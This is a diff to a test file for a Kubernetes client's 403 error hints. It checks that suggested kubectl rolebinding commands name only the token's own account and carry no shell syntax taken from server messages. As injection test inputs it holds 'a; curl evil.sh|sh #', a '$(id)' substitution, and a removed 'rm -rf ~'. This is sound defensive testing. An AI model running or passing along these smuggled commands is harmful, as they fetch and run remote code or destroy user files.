@@ -160,15 +160,25 @@ describe('HTTP failures', () => {
   });
 
   it.each([
-    ['a service account', 'system:serviceaccount:team-a:viewer', '--serviceaccount=team-a:viewer'],
-    ['a user a shell takes as it is', 'alice@example.com', '--user=alice@example.com'],
-    ['a user that would need quoting', 'alice; rm -rf ~', '--serviceaccount=NS:SA'],
-    ['the anonymous user', 'system:anonymous', '--serviceaccount=NS:SA'],
-  ])('names the subject the server named in its 403, when it is %s', (_name, user, flag) => {
+    ['the account our token names', 'system:serviceaccount:team-a:viewer', 'system:serviceaccount:team-a:viewer', '--serviceaccount=team-a:viewer'],
+    ['another account (a server picking who the pasted grant is for)', 'system:serviceaccount:kube-system:attacker', 'system:serviceaccount:team-a:viewer', '--serviceaccount=NS:SA'],
+    ['a user, with no service-account token sent', 'alice@example.com', undefined, '--serviceaccount=NS:SA'],
+  ])('names the subject of a 403 only when it is %s', (_name, user, tokenUser, flag) => {
     const body = JSON.stringify({ kind: 'Status', message: `pods is forbidden: User "${user}" cannot list resource "pods" in API group "" in the namespace "team-a"`, code: 403 });
-    const hint = forbiddenFailure(body, { ...context, path: '/api/v1/namespaces/team-a/pods?limit=1' }).hint;
-    if (user === 'system:anonymous') expect(hint).toMatch(/system:anonymous/);
-    else expect(hint).toBe(`grant the permission with RBAC, e.g. kubectl create rolebinding NAME --clusterrole=view ${flag} -n team-a`);
+    const hint = forbiddenFailure(body, { ...context, tokenUser, path: '/api/v1/namespaces/team-a/pods?limit=1' }).hint;
+    expect(hint).toBe(`grant the permission with RBAC, e.g. kubectl create rolebinding NAME --clusterrole=view ${flag} -n team-a`);
+  });
+
+  it.each([
+    ['a service account', 'system:serviceaccount:team-a:deployer', '--serviceaccount=team-a:deployer'],
+    ['a user a shell takes as it is', 'alice@example.com', '--user=alice@example.com'],
+    ['a user with shell syntax in it', 'a; curl evil.sh|sh #', '--user=USER'],
+    ['a service account with shell syntax in it', 'system:serviceaccount:x:$(id)', '--user=USER'],
+  ])('quotes no shell syntax from the server into an impersonation hint: %s', (_name, user, flag) => {
+    const body = JSON.stringify({ kind: 'Status', message: `users "bob" is forbidden: User "${user}" cannot impersonate resource "users" in API group "" at the cluster scope`, code: 403 });
+    const hint = forbiddenFailure(body, context).hint ?? '';
+    expect(hint).toMatch(new RegExp(`kubectl create clusterrolebinding NAME --clusterrole=NAME ${flag.replace(/[$()|.]/g, '\\$&')}; or remove`));
+    expect(hint.startsWith(`${JSON.stringify(user)} may not impersonate`)).toBe(true);
   });
 
   it.each([
